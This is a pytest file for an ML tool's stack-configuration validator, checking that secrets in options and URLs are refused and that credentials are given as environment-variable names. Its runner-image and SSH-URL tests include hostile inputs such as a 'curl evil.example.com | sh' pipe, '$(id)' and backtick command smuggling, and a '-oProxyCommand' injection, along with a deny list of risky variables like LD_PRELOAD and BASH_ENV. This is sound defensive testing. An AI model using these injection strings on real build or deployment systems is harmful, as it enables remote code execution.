"""Stacks: every shipped preset loads and validates; secrets are refused, credentials are names."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from mlcode.errors import SpecError
from mlcode.resources import stack_presets
from mlcode.spec.load import load_file, parse_stack
from mlcode.spec.stack import Stack
from mlcode.spec.yamlsource import parse

REPO = Path(__file__).resolve().parent.parent
SHIPPED = sorted(p.stem for p in (REPO / "stacks").glob("*.yaml"))


def test_presets_are_the_shipped_files() -> None:
    assert {"local", "github-s3", "gitlab-s3", "github-ssh"} <= set(SHIPPED)
    assert sorted(stack_presets()) == SHIPPED


@pytest.mark.parametrize("name", SHIPPED)
def test_shipped_stack_loads(name: str) -> None:
    stack = parse_stack(load_file(str(REPO / "stacks" / f"{name}.yaml"), f"stacks/{name}.yaml"))
    assert stack.name == name
    assert stack.description
    for env in stack.remote.credentials.values():
        assert env.isupper()
    if stack.forge.type != "none":
        assert stack.forge.token_env


def test_local_stack_needs_no_network() -> None:
    stack = parse_stack(load_file(str(stack_presets()["local"])))
    assert stack.ci == "none"
    assert stack.forge.type == "none"
    assert stack.remote.type == "local"


def _stack(**remote: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"type": "s3", "url": "s3://bucket/path"}
    base.update(remote)
    return {"name": "mine", "remote": base}


def _problems(doc: dict[str, Any]) -> list[str]:
    source = parse(yaml.safe_dump(doc, sort_keys=False), "stack.yaml")
    with pytest.raises(SpecError) as info:
        parse_stack(source)
    for problem in info.value.problems:
        assert problem.location.line >= 1
    return [f"{p.field}: {p.message}" for p in info.value.problems]


@pytest.mark.parametrize(
    "key", ["secret_access_key", "access_key_id", "password", "Token", "session_token"]
)
def test_secret_as_option_value_refused(key: str) -> None:
    [text] = _problems(_stack(options={key: "AKIAsecretvalue"}))
    assert text.startswith(f"remote.options.{key}: ")
    assert f"option {key!r} is a credential" in text
    assert "never its value" in text


def test_non_secret_options_allowed() -> None:
    Stack.model_validate(_stack(options={"endpointurl": "https://minio:9000", "region": "x"}))


@pytest.mark.parametrize("value", ["AKIA1234567890abcdef", "my secret", "aws_key", "1ABC", ""])
def test_credentials_must_be_env_var_names(value: str) -> None:
    [text] = _problems(_stack(credentials={"access_key_id": value}))
    assert text.startswith("remote.credentials.access_key_id: ")
    assert "is not an environment variable name" in text


def test_credentials_env_var_names_accepted() -> None:
    stack = Stack.model_validate(_stack(credentials={"access_key_id": "AWS_ACCESS_KEY_ID"}))
    assert stack.remote.credentials == {"access_key_id": "AWS_ACCESS_KEY_ID"}


def test_url_with_password_refused() -> None:
    [text] = _problems(_stack(type="ssh", url="ssh://user:hunter2@host/path"))
    assert "embeds a password" in text


def _located_problems(text: str) -> list[str]:
    """Problems of a stack file given as YAML text, as `line:column: field: message`."""
    with pytest.raises(SpecError) as info:
        parse_stack(parse(text, "stack.yaml"))
    return [
        f"{p.location.line}:{p.location.column}: {p.field}: {p.message}"
        for p in info.value.problems
    ]


SECRET_URLS = [
    ("https", "https://ghp_tokenvalue@dav.example.com/dvc"),
    ("https", "https://alice:hunter2@dav.example.com/dvc"),
    ("webdavs", "webdavs://token123@dav.example.com/dvc"),
    ("s3", "s3://bucket/dvc?access_key_id=AKIAXXXX"),
    ("https", "https://host.example.com/dvc?X-Amz-Signature=abc&X-Amz-Credential=x"),
    ("azure", "azure://container/dvc?sv=2022-11-02&sig=abc"),
    ("https", "https://host.example.com/dvc?token=abc"),
    ("https", "https://host.example.com/dvc?password=abc"),
    ("https", "https://host.example.com/dvc#access_token=abc"),
    ("ssh", "ssh://dvc:hunter2@host.example.com/srv"),
]


@pytest.mark.parametrize(("kind", "url"), SECRET_URLS)
def test_credentials_in_the_remote_url_are_refused_and_located(kind: str, url: str) -> None:
    text = f"name: mine\nremote:\n  type: {kind}\n  url: '{url}'\n"
    [problem] = _located_problems(text)
    assert problem.startswith("4:8: remote.url: the url ")
    assert "credentials" in problem
    for secret in ("hunter2", "ghp_tokenvalue", "AKIAXXXX", "token123"):
        assert secret not in problem  # the error never repeats the secret


@pytest.mark.parametrize(
    "value",
    [
        "https://AKIAXXXX:secretvalue@minio.example.com:9000",
        "https://tokenvalue@minio.example.com",
        "https://minio.example.com/?X-Amz-Security-Token=abc",
        "https://minio.example.com/?apikey=abc",
    ],
)
def test_credentials_in_a_url_option_are_refused_and_located(value: str) -> None:
    text = (
        "name: mine\nremote:\n  type: s3\n  url: s3://bucket/dvc\n  options:\n"
        f"    region: eu-west-1\n    endpointurl: '{value}'\n"
    )
    [problem] = _located_problems(text)
    assert problem.startswith("7:18: remote.options.endpointurl: the value of 'endpointurl' ")
    assert "secretvalue" not in problem
    assert "tokenvalue" not in problem


def test_credentials_in_the_forge_api_url_are_refused() -> None:
    text = (
        "name: mine\nforge:\n  type: github\n  api_url: https://ghp_x@api.example.com\n"
        "  token_env: GH_PAT\nremote:\n  type: s3\n  url: s3://bucket/dvc\n"
    )
    [problem] = _located_problems(text)
    assert problem.startswith("4:12: forge.api_url: the api_url embeds a user name or token")


@pytest.mark.parametrize(
    ("kind", "url"),
    [
        ("ssh", "ssh://dvc@storage.example.com/srv/dvc/{project}"),
        ("s3", "s3://bucket/dvc?versionId=3"),
        ("https", "https://dav.example.com/remote.php/dvc?page=2"),
        ("local", "../storage@2024/{project}"),
    ],
)
def test_urls_without_credentials_are_kept(kind: str, url: str) -> None:
    Stack.model_validate(_stack(type=kind, url=url))


def test_unknown_remote_option_is_refused_with_did_you_mean() -> None:
    text = (
        "name: mine\nremote:\n  type: s3\n  url: s3://bucket/dvc\n  options:\n"
        "    region: eu-west-1\n    endpoint_url: https://minio.example.com\n"
    )
    [problem] = _located_problems(text)
    assert problem.startswith("7:5: remote.options.endpoint_url: 'endpoint_url' is not an option")
    assert "DVC 's3' remotes" in problem
    assert "did you mean 'endpointurl'?" in problem


def test_an_option_of_another_remote_type_is_refused() -> None:
    [text] = _problems(_stack(type="ssh", url="ssh://host/srv", options={"region": "x"}))
    assert "'region' is not an option of DVC 'ssh' remotes" in text
    Stack.model_validate(_stack(type="ssh", url="ssh://host/srv", options={"port": 2222}))


def test_unknown_credential_option_is_refused() -> None:
    [text] = _problems(_stack(credentials={"secret_key": "AWS_SECRET_ACCESS_KEY"}))
    assert text.startswith("remote.credentials.secret_key: ")
    assert "did you mean 'secret_access_key'?" in text


def test_url_is_not_an_option() -> None:
    [text] = _problems(_stack(options={"url": "s3://other"}))
    assert "set by `remote.url`" in text


@pytest.mark.parametrize(
    "image",
    [
        "python:3.11-slim; curl evil.example.com | sh",
        "python:3.11-slim $(id)",
        "$CI_REGISTRY_IMAGE",
        "python:3.11\nscript: [id]",
        "python:3.11-slim`id`",
        "python:3.11:slim",
        "-python",
    ],
)
def test_runner_image_must_be_an_image_reference(image: str) -> None:
    doc = _stack()
    doc["runner"] = {"image": image}
    [text] = _problems(doc)
    assert text.startswith("runner.image: ")
    assert "is not a container image reference" in text


@pytest.mark.parametrize(
    "image",
    [
        "python:3.11-slim",
        "registry.example.com:5000/team/ml-image:1.2.3",
        "ghcr.io/org/image@sha256:" + "a" * 64,
        "library/python",
    ],
)
def test_image_references_are_accepted(image: str) -> None:
    doc = _stack()
    doc["runner"] = {"image": image}
    Stack.model_validate(doc)


@pytest.mark.parametrize(
    "var",
    [
        "PATH",
        "LD_PRELOAD",
        "PIP_INDEX_URL",
        "GIT_SSH_COMMAND",
        "PYTHONPATH",
        "MLCODE_PUSH_TOKEN",
        "BASH_ENV",
        "CI_JOB_TOKEN",
        "GITHUB_TOKEN\n",
    ],
)
def test_token_variable_must_be_a_safe_name(var: str) -> None:
    doc = _stack()
    doc["forge"] = {"type": "gitlab", "token_env": var}
    [text] = _problems(doc)
    assert text.startswith("forge.token_env: ")


def test_github_secret_names_cannot_start_with_github() -> None:
    doc = _stack(credentials={"access_key_id": "GITHUB_AWS_KEY"})
    doc["ci"] = "github"
    doc["forge"] = {"type": "github", "token_env": "GITHUB_PAT"}
    problems = _problems(doc)
    assert any(p.startswith("remote.credentials.access_key_id: ") for p in problems)
    assert any(p.startswith("forge.token_env: ") for p in problems)
    doc = _stack()
    doc["ci"] = "github"
    doc["forge"] = {"type": "github", "token_env": "GITHUB_TOKEN"}
    Stack.model_validate(doc)  # the workflow's own token


def test_one_variable_cannot_hold_two_secrets() -> None:
    doc = _stack(credentials={"access_key_id": "FORGE_TOKEN"})
    doc["forge"] = {"type": "gitlab", "token_env": "FORGE_TOKEN"}
    [text] = _problems(doc)
    assert "is also the forge token" in text


def test_url_must_match_remote_type() -> None:
    [text] = _problems(_stack(type="s3", url="gs://bucket"))
    assert "does not match remote type 's3'" in text


def test_forge_needs_token_env() -> None:
    doc = _stack()
    doc["forge"] = {"type": "github"}
    [text] = _problems(doc)
    assert "needs `token_env`" in text


def test_unknown_stack_key_did_you_mean() -> None:
    doc = _stack()
    doc["remotes"] = {}
    problems = _problems(doc)
    assert any("did you mean 'remote'?" in t for t in problems)


def _github_ssh(**remote: Any) -> dict[str, Any]:
    doc = yaml.safe_load((REPO / "stacks" / "github-ssh.yaml").read_text())
    doc["remote"].update(remote)
    return dict(doc)


def test_ssh_remote_on_github_needs_pinned_host_keys() -> None:
    doc = _github_ssh()
    del doc["remote"]["known_hosts_env"]
    [text] = _problems(doc)
    assert text.startswith("remote.type: an ssh remote used from GitHub Actions needs")
    assert "known_hosts_env" in text
    assert Stack.model_validate(_github_ssh()).remote.known_hosts_env == "DVC_SSH_KNOWN_HOSTS"


def test_known_hosts_only_for_ssh_remotes() -> None:
    [text] = _problems(_stack(known_hosts_env="KNOWN"))
    assert text.startswith("remote.known_hosts_env: only an ssh remote has host keys")


@pytest.mark.parametrize(
    ("url", "fragment"),
    [
        ("ssh://-oProxyCommand=id/srv", "no usable host name"),
        ("ssh://dvc@host_name.example.com/srv", "no usable host name"),
        ("ssh://-l@host.example.com/srv", "user name ssh cannot take"),
        ("ssh://dvc@host.example.com:99999/srv", "port"),
    ],
)
def test_ssh_url_parts_must_be_safe_for_ssh(url: str, fragment: str) -> None:
    [text] = _problems(_github_ssh(url=url))
    assert text.startswith("remote.url: the url ")
    assert fragment in text
